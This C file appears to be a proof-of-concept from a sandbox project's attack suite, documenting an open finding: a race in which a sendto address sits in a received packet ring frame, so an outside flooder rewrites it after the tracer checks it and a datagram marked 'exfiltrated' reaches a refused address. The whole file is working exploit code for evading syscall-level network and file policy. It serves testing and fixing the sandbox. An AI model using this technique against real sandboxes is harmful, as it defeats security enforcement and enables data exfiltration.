/* net_pktring_race: review 34's open finding (no test yet, not fixed) -- a single sendto whose
 * sin_addr lies in a received packet ring's next empty frame while an outsider floods lo.
 *
 * The ring (PACKET_RX_RING, 1024 frames of 2 pages) is made by `give`, a process outside the
 * tree, and handed over by SCM_RIGHTS; the tree maps it MAP_PRIVATE (no stop) and nothing marks
 * it ringed.  In a tree of one task the solo fast path of Tracer._must_hold neither copies nor
 * freezes a sendto's address: the tracer reads sin_addr 0.0.0.0 (the frame still empty), the
 * outsider's next datagram (6000 bytes of 0x7f) is captured into the frame, and the kernel's
 * move_addr_to_kernel reads 127.127.127.127.  Measured on d2ad4e8 and on review34: 1 datagram
 * reached the refused 127.127.127.127 in 2 of 4 traced runs (cloop and pyloop alike; one try per
 * frame until it fills, ~300 tries a run).  The same holds for any examined buffer of a solo
 * task -- a path of an open under an fsread rule -- that lies in such a ring.
 *
 *   net_pktring_race give 0 UNIXPATH      (outside the tree; floods after the handover)
 *   net_pktring_race take PORT UNIXPATH   (traced; the witness listens on 127.127.127.127:PORT)
 *
 * Class 2/7 (a writer that is no task: the kernel, through a mapping that did not stop).
 */
#include "attack.h"
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#define PAGE 4096
#define FRAME (2 * PAGE)
#define FRAMES 1024
int main(int argc, char **argv) {
    const char *mode = argv[1];
    int port = atoi(argv[2]);
    const char *path = argv[3];
    if (!strcmp(mode, "give")) {
        struct sockaddr_un sa; int l = unix_socket_at(path, &sa); unlink(path);
        if (bind(l, (struct sockaddr *)&sa, sizeof sa) < 0 || listen(l, 8) < 0) blocked("listen");
        signal(SIGCHLD, SIG_IGN);
        printf("ready\n"); fflush(stdout);
        int given;
        for (;;) { given = accept(l, NULL, NULL); if (given >= 0 && fork() == 0) break; close(given); }
        int p = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
        int version = TPACKET_V2;
        setsockopt(p, SOL_PACKET, PACKET_VERSION, &version, sizeof version);
        struct tpacket_req req = {.tp_block_size = FRAME, .tp_block_nr = FRAMES, .tp_frame_size = FRAME, .tp_frame_nr = FRAMES};
        if (setsockopt(p, SOL_PACKET, PACKET_RX_RING, &req, sizeof req) < 0) blocked("ring %s", ename(errno));
        struct sockaddr_ll ll = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = (int)if_nametoindex("lo")};
        bind(p, (struct sockaddr *)&ll, sizeof ll);
        char byte = 'r', space[CMSG_SPACE(sizeof(int))]; memset(space, 0, sizeof space);
        struct iovec one = {.iov_base = &byte, .iov_len = 1};
        struct msghdr m = {.msg_iov = &one, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
        struct cmsghdr *h = CMSG_FIRSTHDR(&m); h->cmsg_level = SOL_SOCKET; h->cmsg_type = SCM_RIGHTS; h->cmsg_len = CMSG_LEN(sizeof(int));
        memcpy(CMSG_DATA(h), &p, sizeof p);
        sendmsg(given, &m, 0);
        char go; read(given, &go, 1);  /* the tree is ready: flood */
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        static char payload[6000]; memset(payload, 0x7f, sizeof payload);
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9)};
        inet_pton(AF_INET, "127.0.0.3", &to.sin_addr);
        for (int k = 0; k < FRAMES; k++) { sendto(s, payload, sizeof payload, 0, (struct sockaddr *)&to, sizeof to); usleep(300); }
        _exit(0);
    }
    struct sockaddr_un sa; int u = unix_socket_at(path, &sa);
    if (connect(u, (struct sockaddr *)&sa, sizeof sa) < 0) blocked("connect %s", ename(errno));
    char byte, space[CMSG_SPACE(sizeof(int))];
    struct iovec one = {.iov_base = &byte, .iov_len = 1};
    struct msghdr m = {.msg_iov = &one, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
    if (recvmsg(u, &m, 0) < 1) blocked("recvmsg");
    int p; memcpy(&p, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof p);
    unsigned char *ring = mmap(NULL, (size_t)FRAME * FRAMES, PROT_READ | PROT_WRITE, MAP_PRIVATE, p, 0);
    if (ring == MAP_FAILED) blocked("mmap %s", ename(errno));
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    write(u, "g", 1);
    int tries = 0, sent = 0, refused = 0;
    for (int j = 0; j < FRAMES; j++) {
        unsigned char *data = ring + (size_t)j * FRAME + PAGE;
        if (data[0] || *(volatile uint32_t *)(data - PAGE)) continue;  /* filled already */
        if (mmap(data - PAGE, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == MAP_FAILED) blocked("mmap fixed");
        unsigned char *name = data - 4;
        uint16_t family = AF_INET, nport = htons(port);
        memcpy(name, &family, 2); memcpy(name + 2, &nport, 2);
        for (int k = 0; k < 300 && !data[0]; k++) {  /* until the outsider's next packet fills this frame */
            tries++;
            int r = sendto(s, "exfiltrated", 11, 0, (struct sockaddr *)name, sizeof(struct sockaddr_in));
            if (r == 11 && data[0] == 127) { sent++; }
            else if (r < 0) refused++;
        }
    }
    note("tries %d, sent after the frame filled %d, refused %d", tries, sent, refused);
    blocked("done (the witness tells)");
}
